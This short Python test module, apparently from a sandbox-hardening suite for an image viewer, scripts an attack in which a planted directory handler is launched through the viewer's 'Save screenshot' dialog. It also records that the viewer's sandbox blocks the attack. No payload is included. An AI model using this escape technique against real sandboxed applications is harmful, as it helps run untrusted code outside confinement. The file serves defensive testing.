"""A granted user has the viewer start planted code as the file manager, where it asks where to save a picture."""

from attacks.stage import TOOLS, Stage

RECIPE = "succeeds"
STOPPED_BY = "viewer: its sandbox has no desktop entries, neither the user's nor the system's"
NEEDS = (*TOOLS, "pgrep", "xdotool", "xwininfo")
# The first directory in the list. The window is larger than the screen.
TITLE, DIRECTORY = "Save screenshot", (236, 139)


def attack(client):
    stage = Stage(client)
    stage.handles("inode/directory")
    stage.view()
    stage.choose("Screenshot", TITLE)
    stage.click(*DIRECTORY, TITLE)
    # "Open With File Manager" is the first in its menu.
    stage.press("Menu")
    return stage.looks_for_handlers(stage.press, "Return")
